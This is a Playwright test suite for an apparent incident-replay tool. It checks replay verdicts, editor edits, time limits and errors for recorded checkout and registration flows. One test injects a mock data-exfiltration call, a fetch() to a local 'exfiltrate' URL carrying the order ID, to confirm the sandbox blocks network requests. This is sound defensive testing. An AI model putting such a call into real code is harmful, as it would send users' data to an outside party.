// The fixer's journey: replay the flow against the recording in the worker,
// edit it in Monaco, and see at once whether the incident is fixed, where the
// new code diverges, or why the code could not run.
import { readFileSync } from 'node:fs';
import { test, expect } from '@playwright/test';
import { AppPage } from './pages/AppPage';
import { ReplayPage } from './pages/ReplayPage';
import { fixture } from './support/files';
import { shootSizes } from './support/screenshots';

const TRACE = fixture('checkout-zero-total/expected/trace.json');
const FLOW = fixture('checkout-zero-total/flow.ts');
const FLOW_TEXT = readFileSync(FLOW, 'utf8');

async function openCheckout(page: import('@playwright/test').Page, flow = FLOW) {
  const app = new AppPage(page);
  await app.goto();
  await app.open(TRACE, flow);
  await app.timeline.expectSteps(3);
  await app.source.waitForMonaco();
  return { app, replay: new ReplayPage(page) };
}

test('the checkout incident reproduces, and the missing guard fixes it with cmdChargeCard never reached', async ({ page }) => {
  const { app, replay } = await openCheckout(page);
  await replay.run();
  await replay.expectVerdict('Reproduced');
  await expect(replay.banner).toContainText('same outcome as production: Failure Error: Amount must be non-zero.');
  for (const name of ['cmdFetchCart', 'cmdValidatePromo', 'cmdChargeCard']) await expect(app.timeline.option(name)).toHaveAccessibleName(/, replayed$/);

  // Add the guard the post-mortem asked for: skip the charge when the total is 0.
  const fixed = FLOW_TEXT.replace(
    'const chargeCard = (order: CheckoutInput & { cart: Cart; total: number }) => {\n',
    "const chargeCard = (order: CheckoutInput & { cart: Cart; total: number }) => {\n    if (order.total <= 0) return Success({ ...order, receipt: { amount: 0, status: 'waived' } });\n"
  );
  expect(fixed).not.toBe(FLOW_TEXT);
  await replay.replaceEditorText(fixed);
  await expect.poll(() => replay.storedEdits()).toEqual({ 'flow.ts': fixed });
  await expect(replay.toolbar).toContainText('edited');
  // Ctrl+Enter in the editor replays (and does not insert a line).
  await page.keyboard.press('ControlOrMeta+Enter');
  await replay.expectVerdict('Fixed');
  await expect(replay.banner).toContainText('1 recorded step never reached: cmdChargeCard');
  await expect(app.timeline.option('cmdChargeCard')).toHaveAccessibleName(/never reached in the replay$/);
  await expect(app.timeline.option('cmdChargeCard')).toContainText('unreached');
  expect((await replay.storedEdits())['flow.ts']).toBe(fixed);

  // The pipeline shows what the promo did to the total.
  await app.timeline.option('cmdValidatePromo').click();
  await page.getByRole('tab', { name: 'Pipeline' }).click();
  await expect(page.getByRole('list', { name: 'Pipeline changes' })).toContainText('total: + 0');

  // Edits are kept per trace: reopening the same recording after a reload brings them back.
  await page.reload();
  await app.open(TRACE, FLOW);
  await app.timeline.expectSteps(3);
  await expect(replay.toolbar).toContainText('edited');
  await replay.toolbar.getByRole('button', { name: 'Reset to original' }).click();
  await expect(replay.toolbar).not.toContainText('edited');
  await replay.run();
  await replay.expectVerdict('Reproduced');
});

test('the reorder variant diverges at path 0: the paradox step is selected and its line marked', async ({ page }) => {
  const { app, replay } = await openCheckout(page, fixture('checkout-zero-total/reorder.ts'));
  await replay.run();
  await replay.expectVerdict('Diverged');
  await expect(replay.banner).toContainText('at path 0: the flow asked for cmdValidatePromo where the trace recorded cmdFetchCart');
  await app.timeline.expectSelected(1, 'cmdFetchCart');
  await expect(app.timeline.option('cmdFetchCart')).toContainText('diverged');
  // One line marked: lines wrap to the pane, so its mark may cover several rows, but they are one run.
  const marked = app.source.monacoHost.locator('.view-overlays .ts-line-paradox');
  await expect(marked.first()).toBeVisible();
  const tops = await marked.evaluateAll((els) => els.map((e) => parseFloat((e.parentElement as HTMLElement).style.top)).sort((a, b) => a - b));
  const row = tops.length > 1 ? tops[1]! - tops[0]! : 0;
  expect(tops.every((t, i) => t === tops[0]! + i * row), `rows ${tops.join(', ')} are one line's`).toBe(true);
  await expect(app.source.monacoHost.locator('.ts-glyph-paradox').first()).toBeVisible();
});

test('a flow that loops forever is stopped at the time limit, and the next replay works', async ({ page }) => {
  const { replay } = await openCheckout(page);
  await replay.toolbar.getByRole('spinbutton', { name: 'Time limit' }).fill('1');
  const looping = FLOW_TEXT.replace('const applyPromo = (order: CheckoutInput & { cart: Cart }) => {\n', 'const applyPromo = (order: CheckoutInput & { cart: Cart }) => {\n    while (true) {}\n');
  expect(looping).not.toBe(FLOW_TEXT);
  await replay.replaceEditorText(looping);
  const started = Date.now();
  await replay.run();
  await expect(page.getByRole('status').filter({ hasText: 'did not finish within 1 s' })).toBeVisible({ timeout: 10_000 });
  expect(Date.now() - started).toBeLessThan(8_000);
  await replay.toolbar.getByRole('button', { name: 'Reset to original' }).click();
  await replay.run();
  await replay.expectVerdict('Reproduced');
});

test('fetch() in pure code fails with a clear error, and no request leaves the browser', async ({ page, context }) => {
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const { replay } = await openCheckout(page);
  const calling = FLOW_TEXT.replace('const applyPromo = (order: CheckoutInput & { cart: Cart }) => {\n', "const applyPromo = (order: CheckoutInput & { cart: Cart }) => {\n    fetch('http://127.0.0.1:9/exfiltrate?order=' + order.orderId);\n");
  expect(calling).not.toBe(FLOW_TEXT);
  await replay.replaceEditorText(calling);
  await replay.run();
  await replay.expectVerdict('Error in flow code');
  await expect(replay.banner).toContainText('fetch() is not available to flow code in Timescope');
  await expect(replay.banner).toContainText('flow.ts:');
  expect(requests.filter((u) => u.includes('exfiltrate'))).toEqual([]);
});

test('a misspelt name in the fix throws ReferenceError at its line, as production would, instead of reading undefined', async ({ page }) => {
  const { replay } = await openCheckout(page);
  // `totl` is declared nowhere: ses's scope would read it as undefined and the replay would "reproduce".
  const misspelt = FLOW_TEXT.replace(
    'const chargeCard = (order: CheckoutInput & { cart: Cart; total: number }) => {\n',
    "const chargeCard = (order: CheckoutInput & { cart: Cart; total: number }) => {\n    if (totl <= 0) return Success({ ...order, receipt: { amount: 0, status: 'waived' } });\n"
  );
  expect(misspelt).not.toBe(FLOW_TEXT);
  await replay.replaceEditorText(misspelt);
  await replay.run();
  await replay.expectVerdict('Error in flow code');
  await expect(replay.banner).toContainText('ReferenceError: totl is not defined');
  await expect(replay.banner).toContainText('flow.ts:37');
  await expect(replay.banner).not.toContainText('Reproduced');
});

test('a flow that now reaches a step production never ran stops with Missing step, refusing to run the real Command', async ({ page }) => {
  const app = new AppPage(page);
  const replay = new ReplayPage(page);
  await app.goto();
  await app.open(fixture('register-email-taken/expected/trace.json'), fixture('register-email-taken/new-address.ts'));
  await app.timeline.expectSteps(1);
  await replay.run();
  await replay.expectVerdict('Missing step');
  await expect(replay.banner).toContainText("Trace has no step at path '1' for 'cmdCreateUser'; refusing to run the real Command.");
  await page.keyboard.press('n');
  const narration = page.getByRole('region', { name: 'Narration' });
  await expect(narration).toContainText('"name": "ReplayError"');
  // The step answered from the recording has its line too, made after the verdict was sent.
  await expect(narration).toContainText(/Step 1: cmd\w+ (returned|threw) in [\d.]+ms/);
});

test('adding settled: true to a Parallel whose recorded branch failure cancelled the other reads Fixed (wave-picking)', async ({ page }) => {
  // The library's own advice for batches: production's Parallel was cancelled by the chilled pick's
  // throw; with settled: true the replay reproduces that cancellation and returns both outcomes.
  const app = new AppPage(page);
  await app.goto();
  await app.open(fixture('wave-picking-settled-fix/expected/trace.json'), fixture('wave-picking-settled-fix/flow.ts'));
  await app.timeline.expectSteps(3);
  await app.source.waitForMonaco();
  const replay = new ReplayPage(page);
  await replay.run();
  await replay.expectVerdict('Reproduced');
  await expect(replay.banner).toContainText('Bin C-14 is empty');
  await replay.replaceEditorText(readFileSync(fixture('wave-picking-settled-fix/settled.ts'), 'utf8'));
  await replay.run();
  await replay.expectVerdict('Fixed');
  await expect(replay.banner).not.toContainText('never reached');
  await shootSizes(page, 'dark', 'replay-settled-fix');
});
